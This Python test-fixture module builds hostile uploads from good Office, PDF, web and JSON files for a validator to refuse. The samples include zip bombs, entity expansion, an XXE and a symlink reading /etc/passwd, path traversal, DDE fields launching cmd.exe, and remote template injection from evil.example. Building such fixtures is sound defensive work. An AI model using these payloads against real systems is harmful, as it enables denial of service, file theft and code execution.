"""Files that people send on purpose or by accident: each with what it is given to and the reason of its refusal.

Each is made from a good file of its kind, so that what is refused is the one thing wrong with it.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Literal

ROOT = Path(__file__).resolve().parent.parent
WORKBOOK = ROOT / "examples" / "baustoffhandel" / "answers.xlsx"
TEMPLATE = ROOT / "templates" / "de" / "dpia-report.docx"
SHEET = "xl/worksheets/sheet2.xml"
DOCUMENT = "word/document.xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)

Kind = Literal["workbook", "template", "docx terms", "page", "web archive", "pdf", "json"]
SUFFIX = {
    "workbook": ".xlsx",
    "template": ".docx",
    "docx terms": ".docx",
    "page": ".html",
    "web archive": ".mhtml",
    "pdf": ".pdf",
    "json": ".json",
}


@dataclass(frozen=True)
class Hostile:
    """One file: what it pretends to be, and the key that its refusal must have."""

    name: str
    kind: Kind
    reason: str
    make: Callable[[], bytes]


@cache
def good(kind: Kind) -> bytes:
    """A good file of a kind, with which the hostile ones are compared."""
    if kind in {"workbook", "template"}:
        return (WORKBOOK if kind == "workbook" else TEMPLATE).read_bytes()
    return GOOD[kind]()


def good_word() -> bytes:
    return word(b"".join(b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % line for line in clauses()))


def good_page() -> bytes:
    return b"<html><body>" + b"".join(b"<p>%s</p>" % line for line in clauses()) + b"</body></html>"


def good_pdf() -> bytes:
    lines = clauses()
    return pdf([written(lines[at : at + 15]) for at in range(0, len(lines), 15)])


def good_data() -> bytes:
    items = (b'{"id": %d}' % number for number in range(50_000))
    return b'{"answers": [' + b", ".join(items) + b"]}"


GOOD: dict[Kind, Callable[[], bytes]] = {
    "docx terms": good_word,
    "page": good_page,
    "web archive": lambda: web_archive(good("page")),
    "pdf": good_pdf,
    "json": good_data,
}


def clauses() -> list[bytes]:
    """Some forty pages of terms."""
    text = (
        b"%d.%d You grant us a worldwide, non-exclusive, royalty-free licence to %s the %s that you upload, "
        b"in order to operate the service. These terms are governed by the laws of Ireland. "
    )
    acts = (b"use", b"copy", b"store", b"show", b"host", b"translate", b"distribute")
    things = (
        b"content",
        b"pictures",
        b"texts",
        b"files",
        b"messages",
        b"names",
        b"contacts",
        b"groups",
    )
    pairs = [(act, thing) for act in acts for thing in things]
    return [
        text % (chapter, number, act, thing)
        for chapter in range(1, 11)
        for number, (act, thing) in enumerate(pairs, 1)
    ]


def word(body: bytes) -> bytes:
    """A Word document with this body."""
    name = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    xml = b'<w:document xmlns:w="%s"><w:body>%s</w:body></w:document>' % (name, body)
    return packed({"[Content_Types].xml": b"<Types/>", DOCUMENT: xml})


def web_archive(page: bytes) -> bytes:
    """A web archive as browsers save it."""
    head = b'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="b"\n\n--b\n'
    return head + b"Content-Type: text/html; charset=utf-8\n\n" + page + b"\n--b--\n"


def pdf(pages: list[bytes], forms: dict[str, bytes] | None = None) -> bytes:
    """A PDF with these page contents; forms: by name, content that may draw other forms."""
    named = forms or {}
    numbers = {name: 4 + at for at, name in enumerate(named)}
    first = 4 + len(named)
    drawn = b" ".join(b"/%s %d 0 R" % (name.encode(), at) for name, at in numbers.items())
    resources = b"<< /Font << /F1 3 0 R >> /XObject << %s >> >>" % drawn
    kids = b" ".join(b"%d 0 R" % (first + 2 * at) for at in range(len(pages)))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, len(pages)),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for content in named.values():
        head = b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources %s" % resources
        objects.append(stream(content, head))
    for at, content in enumerate(pages):
        page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources %s /Contents %d 0 R >>"
        objects += [page % (resources, first + 2 * at + 1), stream(content)]
    return numbered(objects)


def written(lines: list[bytes]) -> bytes:
    """A page of lines."""
    return (
        b"BT /F1 4 Tf 14 TL 20 800 Td " + b" ".join(b"(%s) Tj T*" % line for line in lines) + b" ET"
    )


def stream(content: bytes, head: bytes = b"") -> bytes:
    """A packed stream object."""
    data = zlib.compress(content)
    return b"<< %s /Filter /FlateDecode /Length %d >> stream\n%s\nendstream" % (
        head,
        len(data),
        data,
    )


def numbered(objects: list[bytes]) -> bytes:
    """A PDF file of objects, with its table."""
    data, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        len(data),
    )
    return data + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table + end


def packed(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of these members."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return target.getvalue()


def unpacked(data: bytes) -> dict[str, bytes]:
    """The members of a zip."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def edited(data: bytes, name: str, old: bytes, new: bytes) -> bytes:
    """Replace the first piece of a member; it must be there."""
    members = unpacked(data)
    if old not in members[name]:
        raise LookupError(old)
    members[name] = members[name].replace(old, new, 1)
    return packed(members)


def added(data: bytes, name: str, content: bytes) -> bytes:
    """Put a member in, or in the place of one."""
    return packed({**unpacked(data), name: content})


def lying(data: bytes, name: str) -> bytes:
    """Say in both headers that a member has ten bytes, with the checksum of those ten."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        content = archive.read(name)
        info = archive.getinfo(name)
    crc = zlib.crc32(content[:10])
    raw = bytearray(data)
    struct.pack_into("<L", raw, info.header_offset + 14, crc)
    struct.pack_into("<L", raw, info.header_offset + 22, 10)
    at = data.index(b"PK\x01\x02")
    while data[at + 46 : at + 46 + len(name)] != name.encode():
        at = data.index(b"PK\x01\x02", at + 4)
    struct.pack_into("<L", raw, at + 16, crc)
    struct.pack_into("<L", raw, at + 24, 10)
    return bytes(raw)


def overlapping(data: bytes) -> bytes:
    """A hundred entries in the directory that all lead to the same megabytes."""
    base = packed({**unpacked(data), "xl/media/a.bin": bytes(2_000_000)})
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        info = archive.getinfo("xl/media/a.bin")
        begin = archive.start_dir
    end = base.rindex(b"PK\x05\x06")
    directory = base[begin:end]
    size, offset = info.compress_size, info.header_offset
    extra = b""
    for number in range(40):
        name = b"xl/media/%03d.bin" % number
        fields = (
            20,
            20,
            0,
            8,
            0,
            33,
            info.CRC,
            size,
            info.file_size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        extra += b"PK\x01\x02" + struct.pack("<6H3L5H2L", *fields) + name
    count = len(unpacked(base)) + 40
    whole = directory + extra
    return (
        base[:begin]
        + whole
        + b"PK\x05\x06"
        + struct.pack("<4H2LH", 0, 0, count, count, len(whole), begin, 0)
    )


def many_members(count: int) -> bytes:
    """A zip of very many empty members."""
    return packed({f"x/{number}": b"" for number in range(count)}, zipfile.ZIP_STORED)


def encrypted_flag(data: bytes) -> bytes:
    """Mark each member as encrypted, as zip programs do."""
    raw = bytearray(data)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            raw[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(raw)


def symlink(data: bytes) -> bytes:
    """Add a member that is a link to a file of the machine."""
    target = io.BytesIO(data)
    with zipfile.ZipFile(target, "a") as archive:
        link = zipfile.ZipInfo("xl/media/link")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return target.getvalue()


def twice(data: bytes, name: str) -> bytes:
    """A member that stands in the directory under two spellings of one name."""
    members = unpacked(data)
    return packed({**members, name.upper(): members[name]})


def rel(kind: str, target: str, mode: str = "External") -> bytes:
    """A relation, to be put before the end of a .rels part."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationship Id="rX" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/>'.encode()


def related(kind: str, target: str) -> bytes:
    """The good template with one more relation to somewhere else."""
    end = b"</Relationships>"
    return edited(good("template"), "word/_rels/document.xml.rels", end, rel(kind, target) + end)


def fielded(code: bytes) -> bytes:
    """The good template with a field, its code cut into two runs."""
    half = len(code) // 2
    runs = b"".join(
        b"<w:r><w:instrText>%s</w:instrText></w:r>" % part for part in (code[:half], code[half:])
    )
    begin, end = (
        b'<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind for kind in (b"begin", b"end")
    )
    field = b"<w:p>%s%s%s</w:p><w:sectPr" % (begin, runs, end)
    return edited(good("template"), DOCUMENT, b"<w:sectPr", field)


def bomb(name: str, kind: Kind = "workbook") -> bytes:
    """Ninety megabytes of nothing in a member."""
    return added(good(kind), name, b"<a>" + bytes(90_000_000) + b"</a>")


def flat(name: str, element: bytes, count: int, kind: Kind = "workbook") -> bytes:
    """A member of very many elements (each different, so that it is not packed too tightly)."""
    body = b"".join(element % number for number in range(count))
    return added(good(kind), name, b"<a>" + body + b"</a>")


def deep(name: str, kind: Kind = "workbook") -> bytes:
    """A member of elements within elements."""
    return added(good(kind), name, b"<a>" * 100_000 + b"</a>" * 100_000)


def entities() -> bytes:
    """Each entity is ten of the one before."""
    lines = [b'<!ENTITY e0 "lol">']
    lines += [b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12)]
    return b'<?xml version="1.0"?><!DOCTYPE a [' + b"".join(lines) + b"]><a>&e11;</a>"


def far_forms() -> bytes:
    """Forty forms, each drawing the next one twice."""
    forms = {f"X{n}": b"/X%d Do /X%d Do" % (n + 1, n + 1) for n in range(40)}
    forms["X40"] = b"BT /F1 10 Tf (deep) Tj ET"
    return pdf([b"BT /F1 10 Tf 40 800 Td (%s) Tj ET /X0 Do" % clauses()[0]], forms)


def nested_archive() -> bytes:
    """Parts within parts within parts."""
    lines = []
    for number in range(3000):
        lines += [
            b'Content-Type: multipart/related; boundary="b%d"' % number,
            b"",
            b"--b%d" % number,
        ]
    return b"MIME-Version: 1.0\n" + b"\n".join(lines) + b"\nContent-Type: text/html\n\n<p>x</p>"


MERGED = b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
DDE = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
XLSX = b"openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
DOCX = b"openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES = "[Content_Types].xml"


def _workbooks() -> list[Hostile]:
    def one(name: str, reason: str, make: Callable[[], bytes]) -> Hostile:
        return Hostile(name, "workbook", reason, make)

    source = good("workbook")
    return [
        one("nothing", "file-empty", lambda: b""),
        one("a text", "file-not-xlsx", lambda: b"Frage;Antwort\n" * 100),
        one("a PDF", "file-not-xlsx", lambda: good("pdf")),
        one("a Word document", "file-not-xlsx", lambda: good("template")),
        one("encrypted by Excel", "file-encrypted", lambda: OLE + "EncryptedPackage".encode("utf-16-le")),
        one("encrypted as a zip", "file-encrypted", lambda: encrypted_flag(source)),
        one("an .xls", "file-is-xls", lambda: OLE + "Workbook".encode("utf-16-le")),
        one("an .xlsb", "file-is-xlsb", lambda: edited(source, TYPES, XLSX, b"ms-excel.sheet.binary.main")),
        one("macros", "file-has-macros", lambda: added(source, "xl/vbaProject.bin", OLE)),
        one("macros, as .xlsm", "file-has-macros", lambda: edited(source, TYPES, XLSX, b"ms-excel.sheet.macroEnabled.main+xml")),
        one("cut off", "file-damaged", lambda: source[: len(source) // 2]),
        one("a broken sheet", "file-damaged", lambda: edited(source, SHEET, b"<sheetData>", b"<sheetData><row")),
        one("10 GB in 11 MB", "file-too-large", _ten_gigabytes),
        one("90 MB of nothing", "file-too-large", lambda: bomb("xl/media/a.bin")),
        one("declares 10 bytes, has 90 MB", "file-false-size", lambda: lying(bomb(SHEET), SHEET)),
        one("40 entries for the same bytes", "file-damaged", lambda: overlapping(source)),
        one("60,000 members", "file-too-large", lambda: many_members(60_000)),
        one("a million styles", "file-too-large", lambda: flat("xl/styles.xml", b'<xf numFmtId="%d"/>', 1_000_000)),
        one("two million cells", "file-too-large", lambda: flat(SHEET, b'<c r="A%d"><v>1</v></c>', 1_000_000)),
        one("100,000 levels deep", "file-nested", lambda: deep(SHEET)),
        one("entities that multiply", "file-entities", lambda: added(source, SHEET, entities())),
        one("a file of the machine as entity", "file-entities", lambda: added(source, SHEET, b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')),
        one("entities in UTF-16", "file-entities", lambda: added(source, SHEET, b"\xff\xfe" + entities().decode().encode("utf-16-le"))),
        one("in an odd encoding", "file-damaged", lambda: added(source, SHEET, b'<?xml version="1.0" encoding="cp037"?><a/>')),
        one("merged over a whole sheet", "file-too-large", lambda: edited(source, SHEET, b"</sheetData>", MERGED)),
        one("a name out of the folder", "file-odd-members", lambda: added(source, "../../evil.xml", b"<a/>")),
        one("a link to a file", "file-odd-members", lambda: symlink(source)),
        one("a member twice", "file-odd-members", lambda: twice(source, SHEET)),
        one("a data connection", "file-connected", lambda: added(source, "xl/connections.xml", b"<connections/>")),
        one("a DDE link", "file-connected", lambda: added(source, "xl/externalLinks/externalLink1.xml", DDE)),
    ]  # fmt: skip


def _ten_gigabytes() -> bytes:
    """A hundred members of a hundred megabytes of nothing; packed once, entered often."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = packer.compress(bytes(100_000_000)) + packer.flush()
    crc = zlib.crc32(bytes(100_000_000))
    body, directory = b"", b""
    for number in range(100):
        name = b"xl/media/%03d.bin" % number
        fields = (20, 0, 8, 0, 33, crc, len(content), 100_000_000, len(name), 0)
        entry = struct.pack("<H", 20) + struct.pack("<5H3L2H", *fields)
        directory += b"PK\x01\x02" + entry + struct.pack("<3H2L", 0, 0, 0, 0, len(body)) + name
        body += b"PK\x03\x04" + struct.pack("<5H3L2H", *fields) + name + content
    end = struct.pack("<4H2LH", 0, 0, 100, 100, len(directory), len(body), 0)
    return body + directory + b"PK\x05\x06" + end


def _templates() -> list[Hostile]:
    def one(name: str, reason: str, make: Callable[[], bytes]) -> Hostile:
        return Hostile(name, "template", reason, make)

    source = good("template")
    return [
        one("a workbook", "template-not-docx", lambda: good("workbook")),
        one("a .doc", "template-not-docx", lambda: OLE),
        one("encrypted by Word", "template-encrypted", lambda: OLE + "EncryptedPackage".encode("utf-16-le")),
        one("cut off", "template-damaged", lambda: source[: len(source) // 2]),
        one("macros", "template-has-macros", lambda: added(source, "word/vbaProject.bin", OLE)),
        one("an embedded object", "template-objects", lambda: added(source, "word/embeddings/oleObject1.bin", OLE)),
        one("a picture on the web", "template-external", lambda: related("image", "https://tracker.example/a.png")),
        one("a template on the web", "template-external", lambda: related("attachedTemplate", "https://evil.example/a.dotm")),
        one("a template on a share", "template-external", lambda: related("attachedTemplate", "file:///\\\\host\\share\\a.dotm")),
        one("an imported page", "template-external", lambda: related("aFChunk", "a.html")),
        one("a DDE field", "template-field", lambda: fielded(b'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
        one("a DDE field in entities", "template-field", lambda: fielded(b"&#68;DE  AUTO x")),
        one("a picture field", "template-field", lambda: fielded(b'INCLUDEPICTURE "http://evil.example/a.png"')),
        one("90 MB of nothing", "file-too-large", lambda: bomb("word/media/a.bin", "template")),
        one("declares 10 bytes, has 90 MB", "file-false-size", lambda: lying(bomb(DOCUMENT, "template"), DOCUMENT)),
        one("two million elements", "file-too-large", lambda: flat(DOCUMENT, b"<w:p><w:r w:n='%d'/></w:p>", 1_000_000, "template")),
        one("100,000 levels deep", "file-nested", lambda: deep(DOCUMENT, "template")),
        one("entities that multiply", "file-entities", lambda: added(source, DOCUMENT, entities())),
    ]  # fmt: skip


def _terms() -> list[Hostile]:
    docx = good("docx terms")
    return [
        Hostile("a zip of pages", "docx terms", "copy-other-archive", lambda: packed({"a.html": good("page")})),
        Hostile("declares 10 bytes, has 90 MB", "docx terms", "file-false-size", lambda: lying(bomb(DOCUMENT, "docx terms"), DOCUMENT)),
        Hostile("90 MB of nothing", "docx terms", "file-too-large", lambda: bomb(DOCUMENT, "docx terms")),
        Hostile("entities that multiply", "docx terms", "file-entities", lambda: added(docx, DOCUMENT, entities())),
        Hostile("100,000 levels deep", "docx terms", "file-nested", lambda: deep(DOCUMENT, "docx terms")),
        Hostile("three million elements", "page", "file-too-large", lambda: b"<html>" + b"<p>a" * 3_000_000),
        Hostile("bytes of no text", "page", "copy-binary", lambda: bytes(range(256)) * 4000),
        Hostile("parts within parts", "web archive", "file-nested", nested_archive),
        Hostile("100,000 parts", "web archive", "file-too-large", lambda: web_archive(b"x\n--b\n\n" * 100_000)),
        Hostile("forms that multiply", "pdf", "file-too-large", far_forms),
        Hostile("30 MB", "pdf", "file-too-large", lambda: good("pdf") + bytes(30_000_000)),
        Hostile("600 pages", "pdf", "file-too-large", lambda: pdf([b"BT (a) Tj ET"] * 600)),
        Hostile("a stream of 200 MB", "pdf", "copy-damaged", lambda: pdf([b" " * 200_000_000])),
        Hostile("no PDF inside", "pdf", "copy-damaged", lambda: b"%PDF-1.7\n" + b"garbage " * 5000),
    ]  # fmt: skip


def _data() -> list[Hostile]:
    return [
        Hostile("100,000 levels deep", "json", "file-nested", lambda: b"[" * 100_000 + b"]" * 100_000),
        Hostile("a number of a million figures", "json", "json-damaged", lambda: b"[" + b"9" * 1_000_000 + b"]"),
        Hostile("a key twice", "json", "json-damaged", lambda: b'{"a": 1, "a": 2}'),
        Hostile("no number", "json", "json-damaged", lambda: b'{"a": NaN}'),
        Hostile("another encoding", "json", "json-damaged", lambda: '{"a": "ä"}'.encode("latin-1")),
        Hostile("70 MB", "json", "file-too-large", lambda: b"[" + b"1," * 35_000_000 + b"1]"),
    ]  # fmt: skip


def hostile_files() -> list[Hostile]:
    """All of them."""
    return [*_workbooks(), *_templates(), *_terms(), *_data()]
